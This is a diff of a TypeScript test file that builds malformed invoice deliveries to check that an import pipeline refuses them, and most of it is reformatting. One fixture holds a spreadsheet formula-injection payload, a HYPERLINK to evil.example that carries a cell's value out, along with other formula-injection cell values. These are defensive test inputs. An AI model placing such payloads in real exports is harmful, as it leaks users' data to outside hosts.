@@ -49,18 +49,38 @@ async function unreadableCsvs(): Promise<BadDelivery[]> {
 }
 
 async function badInvoices(): Promise<BadDelivery[]> {
-	const [first, second] = [plainInvoice('BAD-DUP'), plainInvoice('BAD-DUP', { lines: [{ description: 'Other screws', price: '99.00', account: '10-6200-LS' }], image: { fileName: 'BAD-DUP-2.pdf', kind: 'pdf' } })];
+	const [first, second] = [
+		plainInvoice('BAD-DUP'),
+		plainInvoice('BAD-DUP', {
+			lines: [{ description: 'Other screws', price: '99.00', account: '10-6200-LS' }],
+			image: { fileName: 'BAD-DUP-2.pdf', kind: 'pdf' },
+		}),
+	];
 	const discounted = plainInvoice('BAD-KIND');
 	const formula = plainInvoice('BAD-FORMULA', { supplierNote: '=HYPERLINK("http://evil.example/?x="&A1,"open")' });
 	const notAnImage = plainInvoice('BAD-IMAGE');
-	const formulaRows = rows([formula]).map((row) => (row.kind === 'Invoice Line' ? { ...row, cells: { ...row.cells, Description: '@SUM(1+1)*cmd', Price: '=25*2' } } : row));
+	const formulaRows = rows([formula]).map((row) =>
+		row.kind === 'Invoice Line' ? { ...row, cells: { ...row.cells, Description: '@SUM(1+1)*cmd', Price: '=25*2' } } : row,
+	);
 	return [
-		await withNeighbour('duplicateNumber', 'bad-duplicate.zip', 'The number BAD-DUP stands twice for one supplier, with different lines: both are refused', rows([first, second]), [first, second]),
+		await withNeighbour(
+			'duplicateNumber',
+			'bad-duplicate.zip',
+			'The number BAD-DUP stands twice for one supplier, with different lines: both are refused',
+			rows([first, second]),
+			[first, second],
+		),
 		await withNeighbour(
 			'unknownRowKind',
 			'bad-row-kind.zip',
 			'A row "Invoice Discount" belongs to BAD-KIND, and no such row kind exists: BAD-KIND is refused rather than imported without its discount',
-			[...rows([discounted]), { kind: 'Invoice Discount', cells: { 'Invoice Number': discounted.number, 'Supplier Number': discounted.supplierNumber, Discount: '5.00' } }],
+			[
+				...rows([discounted]),
+				{
+					kind: 'Invoice Discount',
+					cells: { 'Invoice Number': discounted.number, 'Supplier Number': discounted.supplierNumber, Discount: '5.00' },
+				},
+			],
 			[discounted],
 		),
 		await withNeighbour(
@@ -70,19 +90,49 @@ async function badInvoices(): Promise<BadDelivery[]> {
 			formulaRows,
 			[formula],
 		),
-		await withNeighbour('notAnImage', 'bad-image.zip', 'BAD-IMAGE.pdf is a text: BAD-IMAGE is refused, since a page image is a PDF, TIFF, PNG or JPEG', rows([notAnImage]), [], {
-			refused: [notAnImage.number],
-			files: [{ fileName: notAnImage.image.fileName, content: Buffer.from('This is no page image.\n') }],
-		}),
+		await withNeighbour(
+			'notAnImage',
+			'bad-image.zip',
+			'BAD-IMAGE.pdf is a text: BAD-IMAGE is refused, since a page image is a PDF, TIFF, PNG or JPEG',
+			rows([notAnImage]),
+			[],
+			{
+				refused: [notAnImage.number],
+				files: [{ fileName: notAnImage.image.fileName, content: Buffer.from('This is no page image.\n') }],
+			},
+		),
 	];
 }
 
 async function strays(): Promise<BadDelivery[]> {
-	const strayLine = { kind: 'Invoice Line', cells: { 'Invoice Number': 'BAD-NOWHERE', 'Supplier Number': 'V-20011', 'Line Number': '1', Description: 'Line without an invoice', Price: '1.00' } };
+	const strayLine = {
+		kind: 'Invoice Line',
+		cells: {
+			'Invoice Number': 'BAD-NOWHERE',
+			'Supplier Number': 'V-20011',
+			'Line Number': '1',
+			Description: 'Line without an invoice',
+			Price: '1.00',
+		},
+	};
 	const page = await filesOf(plainInvoice('BAD-STRAY'));
 	return [
-		await withNeighbour('strayFile', 'bad-stray-file.zip', 'BAD-STRAY.pdf is named by no row: it becomes an item with a problem and goes back, its neighbour is imported', [], [], { refused: [], files: page }),
-		await withNeighbour('strayRow', 'bad-stray-row.zip', 'A line names an invoice that is not in the file: it becomes an item with a problem, its neighbour is imported', [strayLine], [], { refused: [] }),
+		await withNeighbour(
+			'strayFile',
+			'bad-stray-file.zip',
+			'BAD-STRAY.pdf is named by no row: it becomes an item with a problem and goes back, its neighbour is imported',
+			[],
+			[],
+			{ refused: [], files: page },
+		),
+		await withNeighbour(
+			'strayRow',
+			'bad-stray-row.zip',
+			'A line names an invoice that is not in the file: it becomes an item with a problem, its neighbour is imported',
+			[strayLine],
+			[],
+			{ refused: [] },
+		),
 	];
 }
 
